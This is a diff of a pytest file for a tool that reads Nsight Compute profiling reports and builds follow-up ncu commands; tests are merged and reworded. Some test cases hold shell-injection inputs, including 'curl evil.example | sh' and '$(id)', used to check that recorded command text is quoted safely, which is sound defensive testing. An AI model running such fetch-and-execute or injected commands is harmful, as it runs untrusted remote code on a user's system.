@@ -23,14 +23,11 @@ def gaps_of(profile: Profile) -> set[str]:
     return {gap.id for gap in find_coverage(profile).gaps}
 
 
-def test_a_full_report_lacks_nothing(profile_of) -> None:
+def test_what_reports_of_several_sets_lack(profile_of) -> None:
     coverage = find_coverage(profile_of("tour_full.ncu-repz"))
     assert coverage.gaps == ()
     assert coverage.command is None
     assert "source text" in coverage.present
-
-
-def test_a_basic_report_lacks_most(profile_of) -> None:
     coverage = find_coverage(profile_of("tour_basic.ncu-repz"))
     assert set(coverage.present) == {"speed of light", "occupancy", "launch"}
     assert coverage.build_hint == "nvcc -lineinfo"
@@ -38,17 +35,11 @@ def test_a_basic_report_lacks_most(profile_of) -> None:
         f"ncu {recipe_options()} --clock-control none"
         " -o /tmp/keet-out/tour_basic_more /tmp/keet-reports/tour_plain"
     )
-
-
-def test_lines_without_text(profile_of) -> None:
-    """zoo was built with -lineinfo and captured without --import-source."""
+    # zoo was built with -lineinfo and captured without --import-source.
     assert gaps_of(profile_of("zoo.ncu-repz")) == {"source_text"}
     coverage = find_coverage(profile_of("zoo.ncu-repz"))
     assert coverage.command.startswith(f"ncu {recipe_options()} --clock-control none")
     assert coverage.build_hint is None
-
-
-def test_the_source_folder_fills_the_gap() -> None:
     profile = read_profile(REPORTS / "zoo.ncu-repz", source="tests/data/programs")
     assert gaps_of(profile) == set()
 
@@ -67,12 +58,20 @@ def with_command(profile: Profile, command: str | None) -> Profile:
     return Profile(profile.launches, made)
 
 
-def test_sections_that_ncu_could_not_collect_are_not_requested_again(profile_of) -> None:
-    """As the roofline of a CUDA graph: named on the command line, and ncu gave no value."""
+def test_sections_that_are_requested_again_or_not(profile_of) -> None:
+    # As the roofline of a CUDA graph: named on the command line, and ncu gave no value.
     recorded = "ncu --set basic --section SchedulerStats ./app"
     coverage = find_coverage(with_command(profile_of("tour_basic.ncu-repz"), recorded))
     unavailable = {gap.id for gap in coverage.gaps if gap.unavailable}
     assert unavailable == {"scheduler"}
+    command = find_coverage(profile_of("tour_lines.ncu-repz")).command
+    assert command.count("--import-source yes") == 1
+    profile = with_command(profile_of("metrics_only.ncu-repz"), None)
+    command = find_coverage(profile).command
+    assert command.startswith(f"ncu {recipe_options()} ")
+    assert command.endswith(
+        "-k 'regex:^(transpose_rows|transpose_tiles|normalise)$' -o report ./your_program"
+    )
 
 
 @each_row("function, pattern", [
@@ -94,15 +93,6 @@ def test_the_filter_is_the_function_as_the_next_run_names_it(function: str, patt
     assert re.search(pattern, function)
 
 
-def test_no_recorded_command(profile_of) -> None:
-    profile = with_command(profile_of("metrics_only.ncu-repz"), None)
-    command = find_coverage(profile).command
-    assert command.startswith(f"ncu {recipe_options()} ")
-    assert command.endswith(
-        "-k 'regex:^(transpose_rows|transpose_tiles|normalise)$' -o report ./your_program"
-    )
-
-
 @each_row("recorded, rest", [
     ("/opt/ncu ./app", "./app"),
     ('"C:\\Program Files\\NVIDIA\\ncu.exe" --metrics a,b app.exe', "app.exe"),
@@ -113,14 +103,7 @@ def test_no_recorded_command(profile_of) -> None:
     ("ncu --set basic --export=a/x.ncu-rep ./app", "--export=a/x_more.ncu-rep ./app"),
     ('ncu --set basic -o "C:/a b/x" app', '-o "C:/a b/x_more" app'),
     ("ncu --set basic --import-source no ./app -o y", "./app -o y"),
-])  # fmt: skip
-def test_the_recorded_command_with_all_that_keet_asks_for(recorded, rest, profile_of) -> None:
-    """The report at hand is not written over, and the program keeps its own options."""
-    command = find_coverage(with_command(profile_of("tour_basic.ncu-repz"), recorded)).command
-    assert command == f"ncu {recipe_options()} {rest}"
-
-
-@each_row("recorded, rest", [
+    # A report may come from anybody: what it recorded must not become a second command.
     ("ncu -o x ./app ; curl evil.example | sh #",
      "-o x_more ./app ';' curl evil.example '|' sh '#'"),
     ("ncu -o x;id ./app $(id) `id`", "-o 'x;id_more' ./app '$(id)' '`id`'"),
@@ -129,8 +112,9 @@ def test_the_recorded_command_with_all_that_keet_asks_for(recorded, rest, profil
     ("ncu -k regex:^(a|b)$ ./app a\\ b", "-k 'regex:^(a|b)$' ./app 'a b'"),
     ("ncu C:\\a\\app.exe --x=1", "C:\\a\\app.exe --x=1"),
 ])  # fmt: skip
-def test_recorded_words_are_quoted_where_a_shell_needs_it(recorded, rest, profile_of) -> None:
-    """A report may come from anybody: what it recorded must not become a second command."""
+def test_the_recorded_command_with_all_that_keet_asks_for(recorded, rest, profile_of) -> None:
+    """The report at hand is not written over, the program keeps its own options, and words are
+    quoted where a shell needs it."""
     command = find_coverage(with_command(profile_of("tour_basic.ncu-repz"), recorded)).command
     assert command == f"ncu {recipe_options()} {rest}"
 
@@ -157,11 +141,6 @@ def test_recorded_text_is_never_shell_syntax(recorded: str) -> None:
     assert not set(outside) & set(";&|<>$`(){}*?~!#\"'\n")
 
 
-def test_source_that_was_imported_is_imported_again(profile_of) -> None:
-    command = find_coverage(profile_of("tour_lines.ncu-repz")).command
-    assert command.count("--import-source yes") == 1
-
-
 @needs_corpus
 def test_a_gpu_that_ncu_no_longer_profiles() -> None:
     profile = read_profile(CORPUS / "BrennenTaylor__Twisty--profile.nsight-cuprof-report")
@@ -184,18 +163,14 @@ def test_a_range_is_captured_as_a_range_again() -> None:
     assert keet_command(read_profile(RUNS / "waits.ncu-repz")) == "keet profile -- ./waits"
 
 
-@pytest.mark.parametrize("mode", ["--replay-mode range", "--replay-mode=app-range"])
-def test_ranges_by_either_replay(mode: str) -> None:
+@pytest.mark.parametrize(("options", "program", "found"), [
+    ("--replay-mode range ", "--replay-mode kernel", "--range "),
+    ("--replay-mode=app-range ", "--replay-mode kernel", "--range "),
+    ("", "--replay-mode range", ""),  # an option of the program
+])  # fmt: skip
+def test_ranges_by_either_replay(options: str, program: str, found: str) -> None:
     profile = read_profile(RUNS / "waits.ncu-repz")
-    line = f"ncu {mode} --export /t/.keet-profile-a1/report_0.ncu-rep ./app --replay-mode kernel"
+    line = f"ncu {options}--export /t/.keet-profile-a1/report_0.ncu-rep ./app {program}"
     origin = profile.provenance._replace(command_line=line)
-    found = keet_command(replace(profile, provenance=origin))
-    assert found == "keet profile --range -- ./app --replay-mode kernel"
-
-
-def test_an_option_of_the_program_is_not_one_of_ncu() -> None:
-    profile = read_profile(RUNS / "waits.ncu-repz")
-    line = "ncu --export /t/.keet-profile-a1/report_0.ncu-rep ./app --replay-mode range"
-    origin = profile.provenance._replace(command_line=line)
-    found = keet_command(replace(profile, provenance=origin))
-    assert found == "keet profile -- ./app --replay-mode range"
+    told = keet_command(replace(profile, provenance=origin))
+    assert told == f"keet profile {found}-- ./app {program}"
